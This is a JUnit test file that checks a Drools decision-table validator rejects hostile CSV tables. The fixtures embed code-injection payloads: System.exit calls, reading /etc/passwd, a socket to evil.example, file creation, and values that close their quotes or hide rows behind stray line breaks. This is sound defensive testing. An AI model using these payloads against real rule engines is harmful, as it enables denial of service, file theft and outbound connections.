package io.nbo.rules.validate;

import static org.assertj.core.api.Assertions.assertThat;

import io.nbo.rules.compile.RuleProblem;
import io.nbo.rules.compile.RuleSource;
import io.nbo.rules.fixtures.Tables;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Tables that try to run code on the server. None of them is compiled, none of their code runs (a System.exit would
 * end this JVM; the marker file is never created), and the error names the cell and says why.
 */
class HostileTablesTest {

    private static final Path MARKER = Path.of("target", "pwned-by-a-table");

    @ParameterizedTest(name = "{0}")
    @MethodSource("hostile")
    void isRejectedBeforeAnythingRuns(String attack, RuleSource table, String cell, String message) throws Exception {
        Files.deleteIfExists(MARKER);

        DraftReport report = new DraftChecker().check(List.of(table), Tables.OFFERS);

        assertThat(report.valid()).isFalse();
        assertThat(report.compiled()).isNull();
        assertThat(report.errors()).extracting(RuleProblem::cell, RuleProblem::message)
                .containsExactly(org.assertj.core.groups.Tuple.tuple(cell, message));
        assertThat(MARKER).doesNotExist();
    }

    static Stream<Arguments> hostile() {
        return Stream.of(
                Arguments.of("System.exit in a condition template", Tables.csv("""
                        RuleTable Hostile
                        NAME,CONDITION,ACTION
                        ,Customer,
                        ,eval(System.exit(1)),"offers.eligible(""$param"");"
                        Rule,Anything,Make eligible
                        Everyone,x,COFFEE-AM
                        """), "B8", "column 'Anything': 'eval' is Java, not the fact vocabulary: a table may only test "
                        + "Customer and Context and act through offers, it cannot run other code"),
                Arguments.of("reading a file in an action", Tables.csv("""
                        RuleTable Hostile
                        NAME,CONDITION,ACTION
                        ,Customer,
                        ,"likesCategory(""$param"")","offers.eligible(""$param""); java.nio.file.Files.readString(java.nio.file.Path.of(""/etc/passwd""));"
                        Rule,Top category,Make eligible
                        Coffee,coffee,COFFEE-AM
                        """), "C8", "column 'Make eligible': 'java' is Java, not the fact vocabulary: an action may "
                        + "only call offers.<action>(...), it cannot run other code"),
                Arguments.of("opening a socket in a Functions block", Tables.csv("test.drl.csv", """
                        RuleSet,nbo.test
                        Import,io.nbo.rules.vocabulary.Customer
                        Variables,io.nbo.rules.vocabulary.Offers offers
                        Functions,"function void call() { new java.net.Socket(""evil.example"", 80); }"

                        RuleTable Hostile
                        NAME,CONDITION,ACTION
                        ,Customer,
                        ,"likesCategory(""$param"")","offers.eligible(""$param"");"
                        Rule,Top category,Make eligible
                        Coffee,coffee,COFFEE-AM
                        """), "A4", "'Functions' is code and is not allowed in a decision table; tables may only use "
                        + "RuleSet, Import, Variables and Notes above their rule tables (shared logic belongs in "
                        + "rules/*.drl, written and reviewed by developers)"),
                Arguments.of("importing java.io.File", Tables.csv("test.drl.csv", """
                        RuleSet,nbo.test
                        Import,"io.nbo.rules.vocabulary.Customer, java.io.File"
                        Variables,io.nbo.rules.vocabulary.Offers offers

                        RuleTable Hostile
                        NAME,CONDITION,ACTION
                        ,Customer,
                        ,"likesCategory(""$param"")","offers.eligible(""$param"");"
                        Rule,Top category,Make eligible
                        Coffee,coffee,COFFEE-AM
                        """), "A2", "Import may only name the fact vocabulary (io.nbo.rules.vocabulary.Context, "
                        + "io.nbo.rules.vocabulary.Customer, io.nbo.rules.vocabulary.Offers), not 'java.io.File'"),
                Arguments.of("a file-creating constructor in a condition", Tables.csv("""
                        RuleTable Hostile
                        NAME,CONDITION,ACTION
                        ,Customer,
                        ,"new java.io.File(""target/pwned-by-a-table"").createNewFile() == $param","offers.eligible(""$param"");"
                        Rule,Anything,Make eligible
                        Everyone,true,COFFEE-AM
                        """), "B8", "column 'Anything': 'new' is Java, not the fact vocabulary: a table may only test "
                        + "Customer and Context and act through offers, it cannot run other code"),
                Arguments.of("a Runtime fact type", Tables.csv("""
                        RuleTable Hostile
                        NAME,CONDITION,ACTION
                        ,java.lang.Runtime,
                        ,"availableProcessors() > $param","offers.eligible(""$param"");"
                        Rule,Cores,Make eligible
                        Everyone,0,COFFEE-AM
                        """), "B7", "column 'Cores': a condition tests one of [Customer, Context], not "
                        + "'java.lang.Runtime'"),
                Arguments.of("a number cell smuggling code", Tables.csv("""
                        RuleTable Hostile
                        NAME,CONDITION,ACTION
                        ,Customer,
                        ,monetary >= $param,"offers.eligible(""$param"");"
                        Rule,Spend at least,Make eligible
                        Big spenders,0 || eval(java.lang.System.exit(0)),COFFEE-AM
                        """), "B10", "'Spend at least' expects a number, got '0 || eval(java.lang.System.exit(0))'"),
                Arguments.of("a text cell closing its quotes", Tables.csv("""
                        RuleTable Hostile
                        NAME,CONDITION,ACTION
                        ,Customer,
                        ,"likesCategory(""$param"")","offers.eligible(""$param"");"
                        Rule,Top category,Make eligible
                        Coffee,"coffee"") || eval(java.lang.System.exit(0)) || likesCategory(""x",COFFEE-AM
                        """), "B10", "the value 'coffee\") || eval(java.lang.System.exit(0)) || likesCatego...' "
                        + "for 'Top category' contains quotes, backslashes or line breaks, which could change the "
                        + "rule's code"),
                Arguments.of("a global other than offers", Tables.csv("test.drl.csv", """
                        RuleSet,nbo.test
                        Import,io.nbo.rules.vocabulary.Customer
                        Variables,java.lang.Runtime runtime

                        RuleTable Hostile
                        NAME,CONDITION,ACTION
                        ,Customer,
                        ,"likesCategory(""$param"")","offers.eligible(""$param"");"
                        Rule,Top category,Make eligible
                        Coffee,coffee,COFFEE-AM
                        """), "A3", "Variables must be exactly 'io.nbo.rules.vocabulary.Offers offers', got "
                        + "'java.lang.Runtime runtime'"),
                // The five doors through which code once ran: each closed because only the checked reading compiles.
                Arguments.of("a Queries block after the workbook tests", Tables.csv("""
                        RuleTable Hostile
                        NAME,CONDITION,ACTION
                        ,Customer,
                        ,"likesCategory(""$param"")","offers.eligible(""$param"");"
                        Rule,Top category,Make eligible
                        Coffee,coffee,COFFEE-AM

                        Tests
                        Test,Categories,Expect eligible
                        Coffee lover,coffee,COFFEE-AM

                        Queries,"query stolen() $c : Customer() end"
                        """), "A16", "'Queries' " + CODE),
                Arguments.of("a lone CR hiding a Functions row in a note", Tables.csv("test.drl.csv", HEADER_ROWS
                        + "Notes,harmless\rFunctions,\"function void f() { System.exit(1); }\"\n\n" + COFFEE_TABLE),
                        "A5", "'Functions' " + CODE),
                Arguments.of("a quoted line break hiding a rule table in a note", Tables.csv("test.drl.csv",
                        HEADER_ROWS + "Notes,\"harmless\rRuleTable Sneaky\"\n\n" + COFFEE_TABLE), "B4",
                        "has a line break inside a quoted value; keep every value on one line"),
                Arguments.of("a METADATA column Drools evaluates while compiling", Tables.csv("""
                        RuleTable Hostile
                        NAME,CONDITION,METADATA,ACTION
                        ,Customer,,
                        ,"likesCategory(""$param"")","x(new java.io.File(""target/pwned-by-a-table"").createNewFile())","offers.eligible(""$param"");"
                        Rule,Top category,Meta,Make eligible
                        Coffee,coffee,1,COFFEE-AM
                        """), "C6", "column kind 'METADATA' is not allowed; decision tables use CONDITION, ACTION, "
                        + "NAME, PRIORITY, ACTIVATION-GROUP and DESCRIPTION columns"),
                Arguments.of("Sequential mode, which rewrites salience", Tables.csv("test.drl.csv", HEADER_ROWS
                        + "Sequential,true\n\n" + COFFEE_TABLE), "A4", "'Sequential' " + CODE),
                Arguments.of("free text above the table, which Drools reads as a keyword", Tables.csv("test.drl.csv",
                        HEADER_ROWS + "Prepared by,Anna\n\n" + COFFEE_TABLE), "A4", "'Prepared by' is not part of a "
                        + "decision table: outside the rule tables a row may only be RuleSet, Import, Variables or "
                        + "Notes (put free text in a Notes row)"),
                Arguments.of("a stray cell beside a rule, under no column", Tables.csv(COFFEE_TABLE.replace(
                        "Coffee,coffee,COFFEE-AM", "Coffee,coffee,COFFEE-AM,,eval(true)")), "E10", "'eval(true)' is "
                        + "inside rule table 'Hostile' but under no CONDITION, ACTION, NAME, PRIORITY or DESCRIPTION "
                        + "column; move notes to a Notes row"));
    }

    private static final String CODE = "is code and is not allowed in a decision table; tables may only use RuleSet, "
            + "Import, Variables and Notes above their rule tables (shared logic belongs in rules/*.drl, written and "
            + "reviewed by developers)";
    private static final String HEADER_ROWS = """
            RuleSet,nbo.test
            Import,"io.nbo.rules.vocabulary.Customer, io.nbo.rules.vocabulary.Context"
            Variables,io.nbo.rules.vocabulary.Offers offers
            """;
    private static final String COFFEE_TABLE = """
            RuleTable Hostile
            NAME,CONDITION,ACTION
            ,Customer,
            ,"likesCategory(""$param"")","offers.eligible(""$param"");"
            Rule,Top category,Make eligible
            Coffee,coffee,COFFEE-AM
            """;
}
